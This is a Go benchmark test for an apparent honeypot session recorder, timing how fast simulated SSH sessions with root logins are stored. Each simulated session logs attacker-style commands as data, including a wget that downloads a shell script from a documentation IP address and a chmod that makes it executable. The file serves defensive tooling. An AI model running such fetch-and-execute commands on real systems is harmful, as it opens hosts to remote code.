package capture_test

import (
	"fmt"
	"testing"
	"time"

	"go.cordon.dev/cordon/detect"
	"go.cordon.dev/cordon/internal/clock"
	"go.cordon.dev/cordon/internal/deception/capture"
	"go.cordon.dev/cordon/internal/deception/service"
	"go.cordon.dev/cordon/internal/leak"
	"go.cordon.dev/cordon/internal/store"
	"go.cordon.dev/cordon/internal/store/storetest"
)

// BenchmarkRecorder stores sessions of ten observations each, of which two are
// logins with passwords that were not tried before, as fast as the store takes them.
// The goal is 30,000 observations a second.
func BenchmarkRecorder(b *testing.B) {
	b.Run("SQLite", func(b *testing.B) { recordInto(b, storetest.SQLiteURL(b)) })
}

func recordInto(b *testing.B, url string) {
	rules, err := detect.BuiltinRules()
	must(b, err)
	set, err := detect.Compile(rules, detect.Options{})
	must(b, err)
	scanner := detect.NewScanner(set)
	s, err := store.Open(b.Context(), store.Options{URL: url})
	must(b, err)
	defer func() { must(b, s.Close()) }()
	r := openRoom(b, b.TempDir(), s, func(d *capture.Deps) { d.Redact = func(s string) string { return leak.Words(scanner, s) } })
	stop := r.run(b)
	n := 0
	began := time.Now()
	for b.Loop() {
		visit(r, n)
		n++
	}
	eventually(b, "all to be stored", func() bool { return r.Stats().Stored == uint64(n*10) })
	b.ReportMetric(float64(n*10)/time.Since(began).Seconds(), "observations/s")
	stop()
}

// visit is a session of ten observations.
func visit(r *room, n int) {
	s := service.NewSession(r, clock.Real{}, fmt.Sprint("web-", n%50), "ssh", client(n%60_000), local())
	s.Record(service.ClientHello, nil, field("client", "SSH-2.0-Go"))
	s.Attempt(service.Credential{Kind: service.Plaintext, Principal: "root", Secret: fmt.Appendf(nil, "a-%d", n)})
	s.Attempt(service.Credential{Kind: service.Plaintext, Principal: "root", Secret: fmt.Appendf(nil, "b-%d", n), Accepted: true})
	s.Record(service.LoggedIn, nil, field("user", "root"))
	for _, line := range []string{"uname -a", "cat /proc/cpuinfo", "wget http://198.51.100.7/x.sh", "chmod +x x.sh"} {
		s.Record(service.Command, []byte(line), field("line", line))
	}
	s.End("the client left")
}
